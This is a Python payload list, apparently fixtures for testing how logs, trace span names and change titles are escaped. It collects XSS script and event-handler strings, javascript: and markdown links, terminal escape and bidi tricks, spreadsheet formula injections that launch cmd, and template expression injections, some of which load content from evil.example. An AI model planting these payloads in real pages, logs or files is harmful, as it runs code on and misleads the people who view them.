"""What an attacker can write into a log line, a span's name, a title of a change."""

from __future__ import annotations

SCRIPT = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script\n>alert(1)</script\n>",
    "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</pre></details><script>alert(1)</script>", "<!--<script>--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "<svg><script>alert(1)</script></svg>", "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<noscript><p title='</noscript><script>alert(1)</script>'>", "&lt;script&gt;alert(1)&lt;/script&gt;",
]  # fmt: skip
HANDLERS = [
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>", '" onmouseover="alert(1)', "' autofocus onfocus=alert(1) '", "` onmouseover=alert(1) `", "<a onclick=alert(1)>x</a>", "<div style=animation-name:x onanimationstart=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data='data:text/html,<script>alert(1)</script>'>", "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
]  # fmt: skip
LINKS = [
    "<a href=javascript:alert(1)>x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>", "<form action=javascript:alert(1)><button>x", "<button formaction=javascript:alert(1)>x",
    "<base href=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<style>@import '//evil.example/x.css';</style>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
]  # fmt: skip
MARKDOWN = [
    "[x](javascript:alert(1))", "![x](http://evil.example/a.png)", "[x]: javascript:alert(1)\n[x]", "<javascript:alert(1)>", "<http://evil.example>", "http://evil.example/?x", "www.evil.example", "a@evil.example", "[x](<javascript:alert(1)>)", "[![x](//evil.example/a)](javascript:alert(1))",
    "```\n<script>alert(1)</script>\n```", "`<script>`", "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> |", "$$\\href{javascript:alert(1)}{x}$$", "$\\unicode[x]{1}$", "\\(\\href{javascript:alert(1)}{x}\\)", "\\[x\\]", "\\begin{equation}\\href{javascript:alert(1)}{x}\\end{equation}", "# heading\n---\n- item", "[x][y]\n\n[y]: javascript:alert(1)",
]  # fmt: skip
TERMINAL = [
    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x1b[2J\x1b[1;1H", "\x1b]0;owned\x07", "\x9b31mred", "\x1b[8mhidden\x1b[0m", "a\rb", "a\x08\x08b", "\x1bP+q544e\x1b\\", "\u202egnp.exe", "\u2066x\u2069\u200b", "\u061c\u200f\u202d", "\ufeff\u2028x",
]  # fmt: skip
FORMULAS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example";"x")',
    "\t=1+1",
    "\r=1+1",
    "x;=1+1",
    'x"\n=1+1',
    "＝1+1",
]
VEGA = [
    '{"signal": "alert(1)"}', "datum.constructor.constructor('alert(1)')()", "toString.constructor('alert(1)')()", "'+alert(1)+'", '"+alert(1)+"', "\\u0027+alert(1)+\\u0027", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "event.view.eval('alert(1)')", "javascript:alert(1)",
]  # fmt: skip
PAYLOADS = [*SCRIPT, *HANDLERS, *LINKS, *MARKDOWN, *TERMINAL, *FORMULAS, *VEGA]
